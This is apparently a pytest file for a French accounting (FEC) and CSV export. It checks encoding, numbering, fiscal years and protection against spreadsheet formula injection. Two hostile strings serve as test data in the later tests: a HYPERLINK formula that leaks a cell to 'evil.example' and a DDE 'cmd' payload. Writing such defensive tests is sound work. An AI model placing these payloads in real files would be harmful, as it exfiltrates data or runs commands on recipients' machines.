"""The FEC file: columns, formats, encoding, ordering, numbering, fiscal years; and the CSV."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from facturier.ledger import fec, fiscal
from facturier.ledger.booking import book
from facturier.ledger.exports import export_fiscal_year
from facturier.ledger.tests.conftest import customer, document, issue, line, receive, row, supplier
from facturier.spreadsheets import inert

D = Decimal
pytestmark = pytest.mark.django_db

HEADER = ("JournalCode\tJournalLib\tEcritureNum\tEcritureDate\tCompteNum\tCompteLib\tCompAuxNum\tCompAuxLib\t"
          "PieceRef\tPieceDate\tEcritureLib\tDebit\tCredit\tEcritureLet\tDateLet\tValidDate\tMontantdevise\tIdevise")


def fec_text(dossier, **bounds):
    return b"".join(fec.fec_chunks(fec.export_lines(dossier, **bounds))).decode("iso-8859-15")


def records(text):
    assert text.endswith("\r\n")
    return [record.split("\t") for record in text[:-2].split("\r\n")]


def test_header_columns_and_formats(dossier):
    party = supplier(dossier, name="Société Générale d'Électricité")
    entry = book(receive(dossier, document("FA-1", [line("1", "1234.50")], issue_date=datetime.date(2026, 2, 3),
                                           seller=("Société Générale d'Électricité", "443061841")), party))
    rows = records(fec_text(dossier))
    assert "\t".join(rows[0]) == HEADER
    assert len(rows) == 4 and all(len(r) == 18 for r in rows)
    supplier_row = dict(zip(rows[0], rows[1], strict=True))
    assert supplier_row == {
        "JournalCode": "AC", "JournalLib": "Achats", "EcritureNum": "AC000001", "EcritureDate": "20260203",
        "CompteNum": "401000", "CompteLib": "Fournisseurs", "CompAuxNum": "401SOCIETEG",
        "CompAuxLib": "Société Générale d'Électricité", "PieceRef": "FA-1", "PieceDate": "20260203",
        "EcritureLib": "Société Générale d'Électricité Facture FA-1", "Debit": "0,00", "Credit": "1481,40",
        "EcritureLet": "", "DateLet": "", "ValidDate": timezone.localtime(entry.booked_at).strftime("%Y%m%d"),
        "Montantdevise": "", "Idevise": "",
    }
    assert [r[11] for r in rows[2:]] == ["1234,50", "246,90"]  # no thousands separator, decimal comma


def test_file_is_iso_8859_15_with_crlf_and_labels_cannot_break_columns(dossier):
    party = supplier(dossier, name="Œuvres\tÉditions\n€uro")
    book(receive(dossier, document("FA-2", [line("1", "10.00")]), party))
    raw = b"".join(fec.fec_chunks(fec.export_lines(dossier)))
    assert "Œuvres Éditions €uro".encode("iso-8859-15") in raw  # Œ, É and € exist in ISO 8859-15
    assert b"\xa4uro" in raw and "É".encode() not in raw
    assert raw.count(b"\r\n") == 4 and raw.count(b"\n") == 4
    assert all(len(r) == 18 for r in records(raw.decode("iso-8859-15")))


def test_entries_are_numbered_continuously_in_chronological_order_per_journal(dossier):
    party, client = supplier(dossier), customer(dossier)
    sale = {"seller": ("Société Active", "356000000"), "buyer": ("Client Durand", "552100554")}
    # Booked out of date order on purpose.
    for number, day in (("A3", 20), ("A1", 5), ("A2", 12)):
        book(receive(dossier, document(number, [line("1", "10.00")], issue_date=datetime.date(2026, 4, day)), party))
    for number, day in (("V2", 9), ("V1", 1)):
        book(issue(dossier, document(number, [line("1", "10.00")], issue_date=datetime.date(2026, 4, day), **sale),
                   client))
    rows = records(fec_text(dossier))[1:]
    numbering = [(r[0], r[2], r[8], r[3]) for r in rows[::3]]
    assert numbering == [
        ("AC", "AC000001", "A1", "20260405"), ("AC", "AC000002", "A2", "20260412"),
        ("AC", "AC000003", "A3", "20260420"),
        ("VT", "VT000001", "V1", "20260401"), ("VT", "VT000002", "V2", "20260409"),
    ]
    # Every line of one entry carries its number, and each entry balances.
    for index in range(0, len(rows), 3):
        entry = rows[index:index + 3]
        assert len({r[2] for r in entry}) == 1
        assert sum(D(r[11].replace(",", ".")) for r in entry) == sum(D(r[12].replace(",", ".")) for r in entry)


@pytest.mark.parametrize(("closing_month", "year", "start", "end", "name"), [
    (12, 2026, datetime.date(2026, 1, 1), datetime.date(2026, 12, 31), "356000000FEC20261231.txt"),
    (6, 2026, datetime.date(2025, 7, 1), datetime.date(2026, 6, 30), "356000000FEC20260630.txt"),
    (2, 2028, datetime.date(2027, 3, 1), datetime.date(2028, 2, 29), "356000000FEC20280229.txt"),
])
def test_fiscal_year_bounds_and_file_name(dossier, closing_month, year, start, end, name):
    dossier.fiscal_year_end_month = closing_month
    assert fiscal.bounds(dossier, year) == (start, end)
    assert fiscal.fec_filename(dossier, year) == name
    assert fiscal.fiscal_year_of(dossier, start) == year == fiscal.fiscal_year_of(dossier, end)
    assert fiscal.fiscal_year_of(dossier, end + datetime.timedelta(days=1)) == year + 1


def test_fiscal_year_export_takes_exactly_the_entries_between_the_closing_dates(dossier):
    dossier.fiscal_year_end_month = 6
    dossier.save()
    for number, day in (("BEFORE", datetime.date(2025, 6, 30)), ("FIRST", datetime.date(2025, 7, 1)),
                        ("LAST", datetime.date(2026, 6, 30)), ("AFTER", datetime.date(2026, 7, 1))):
        row(dossier, number, issue_date=day)
    export = export_fiscal_year(dossier, 2026, None)
    assert export.filename == "356000000FEC20260630.txt"
    assert (export.period_start, export.period_end) == (datetime.date(2025, 7, 1), datetime.date(2026, 6, 30))
    from facturier.archive.store import open_content

    rows = records(open_content(export.archived).decode("iso-8859-15"))[1:]
    assert sorted({r[8] for r in rows}) == ["FIRST", "LAST"]
    assert export.entry_count == 2 and export.line_count == 6


def test_foreign_currency_fills_montantdevise_and_idevise(dossier):
    book(row(dossier, "USD-1", currency="USD"))
    rows = records(fec_text(dossier))[1:]
    assert [(r[16], r[17]) for r in rows] == [("120,00", "USD"), ("100,00", "USD"), ("20,00", "USD")]


def test_csv_is_semicolon_separated_with_decimal_commas_for_french_excel(dossier):
    party = supplier(dossier, name="Dupont; Fils")
    book(receive(dossier, document("FA-3", [line("1", "1500.00")], issue_date=datetime.date(2026, 5, 7)), party))
    raw = b"".join(fec.csv_chunks(fec.export_lines(dossier)))
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw[3:].decode("utf-8")
    lines = text.split("\r\n")
    assert lines[0].startswith("Journal;Libellé journal;N° écriture;Date;Compte;")
    assert lines[1].startswith('AC;Achats;AC000001;07/05/2026;401000;Fournisseurs;401DUPONTFI;"Dupont; Fils";FA-3;')
    assert ";0,00;1800,00;" in lines[1] and ";1500,00;0,00;" in lines[2]


def test_export_of_a_year_without_entries_is_the_header_alone(dossier):
    export = export_fiscal_year(dossier, 2030, None)
    from facturier.archive.store import open_content

    assert open_content(export.archived) == (HEADER + "\r\n").encode("ascii")
    assert (export.line_count, export.entry_count) == (0, 0)


EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1;"Voir")'


def test_csv_cells_a_spreadsheet_would_run_are_made_inert(dossier):
    party = supplier(dossier, name=EVIL_NAME)
    book(receive(dossier, document("@FA-5", [line("1", "100.00")], issue_date=datetime.date(2026, 5, 7),
                                   seller=(EVIL_NAME, "443061841")), party))
    text = b"".join(fec.csv_chunks(fec.export_lines(dossier)))[3:].decode("utf-8")
    cells = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    supplier_row = dict(zip(fec.CSV_COLUMNS, cells[0], strict=True))
    assert supplier_row["Libellé auxiliaire"] == "'" + EVIL_NAME
    assert supplier_row["Pièce"] == "'@FA-5"
    assert supplier_row["Crédit"] == "120,00"  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "@")) for row in cells for cell in row)


def test_negative_numbers_stay_numbers_but_a_formula_after_a_minus_does_not_run():
    assert inert("-12,50") == "-12,50" and inert("-3") == "-3"
    assert inert("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
    assert inert("\t=1") == "'\t=1" and inert(42) == 42


def test_the_fec_keeps_labels_exactly_as_booked(dossier):
    party = supplier(dossier, name=EVIL_NAME)
    book(receive(dossier, document("@FA-5", [line("1", "100.00")], issue_date=datetime.date(2026, 5, 7),
                                   seller=(EVIL_NAME, "443061841")), party))
    supplier_row = dict(zip(fec.COLUMNS, records(fec_text(dossier))[1], strict=True))
    assert supplier_row["CompAuxLib"] == EVIL_NAME and supplier_row["PieceRef"] == "@FA-5"
